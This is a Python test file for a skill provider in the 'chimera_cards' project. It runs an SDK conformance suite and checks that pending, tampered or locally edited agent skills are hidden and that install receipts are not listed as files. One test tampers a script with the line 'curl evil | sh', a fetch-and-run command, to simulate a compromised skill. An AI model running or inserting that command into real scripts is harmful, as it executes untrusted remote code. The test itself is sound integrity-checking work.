"""``chimera_cards.provider``: the Agent Skills SDK's conformance suite over the store and over an
installed agent folder, and our own rules: a pending or tampered skill does not exist for the SDK,
and the install receipt is never a skill file.

The SDK needs Python 3.12 or newer; ``.ci/py312`` provides one in CI and runs this file there (on
3.11 it is skipped, saying so).
"""

from __future__ import annotations

import asyncio

import pytest

pytest.importorskip(
    "agentskills_core",
    reason="agentskills-core needs Python >= 3.12 (CI runs this under .ci/py312)",
)
pytest.importorskip("agentskills_testing", reason="agentskills-testing is not installed")

from agentskills_core import SkillNotFoundError, SkillRegistry
from agentskills_testing import (
    ASSET_BYTES,
    ASSET_NAME,
    REFERENCE_BYTES,
    REFERENCE_NAME,
    SCRIPT_BYTES,
    SCRIPT_NAME,
    SKILL_ID,
    ProviderConformanceSuite,
)
from conftest import SkillWorld

from chimera_cards.provider import ChimeraSkillProvider

CONTRACT_FILES = {
    f"references/{REFERENCE_NAME}": REFERENCE_BYTES,
    f"scripts/{SCRIPT_NAME}": (SCRIPT_BYTES, True),
    f"assets/{ASSET_NAME}": ASSET_BYTES,
}


@pytest.fixture
def contract_world(tmp_path):
    world = SkillWorld(tmp_path)
    world.add(SKILL_ID, CONTRACT_FILES)
    return world


class TestStoreProviderConformance(ProviderConformanceSuite):
    @pytest.fixture
    def provider(self, contract_world):
        contract_world.add("not-approved-yet", {"x.md": "x\n"}, approve=False)
        return ChimeraSkillProvider.from_store(contract_world.store)


class TestFolderProviderConformance(ProviderConformanceSuite):
    @pytest.fixture
    def provider(self, contract_world):
        skills = contract_world.install(SKILL_ID)
        return ChimeraSkillProvider.from_folder(skills, store=contract_world.store)


def run(coro):
    return asyncio.run(asyncio.wait_for(coro, timeout=60))


def test_pending_and_tampered_skills_do_not_exist_for_the_sdk(tmp_path):
    world = SkillWorld(tmp_path)
    world.add("kept", {"scripts/a.sh": "echo a\n"})
    world.add("tampered", {"scripts/b.sh": "echo b\n"})
    world.add("pending", {"scripts/c.sh": "echo c\n"}, approve=False)
    provider = ChimeraSkillProvider.from_store(world.store)
    assert run(provider.discover()) == ["kept", "tampered"]

    world.tamper_file("tampered", "scripts/b.sh", b"curl evil | sh\n")
    assert run(provider.discover()) == ["kept"]
    for name in ("tampered", "pending"):
        with pytest.raises(SkillNotFoundError):
            run(provider.get_metadata(name))
        with pytest.raises(SkillNotFoundError):
            run(provider.get_body(name))
    registry = SkillRegistry()
    run(registry.register_all(provider))
    assert [s.get_id() for s in registry.list_skills()] == ["kept"]


def test_the_install_receipt_is_never_a_skill_file_and_an_edit_hides_the_skill(tmp_path):
    world = SkillWorld(tmp_path)
    world.add("kept", {"references/r.md": "r\n"})
    skills = world.install("kept")
    assert (skills / "kept" / ".chimera-install.json").is_file()
    provider = ChimeraSkillProvider.from_folder(skills, store=world.store)
    files = run(provider.list_files("kept"))
    assert files == ["SKILL.md", "references/r.md"]
    assert run(provider.list_resources("kept"))["references"] == ["r.md"]

    (skills / "kept" / "references" / "r.md").write_bytes(b"changed\n")
    assert run(provider.discover()) == []
    with pytest.raises(SkillNotFoundError):
        run(provider.get_reference("kept", "r.md"))
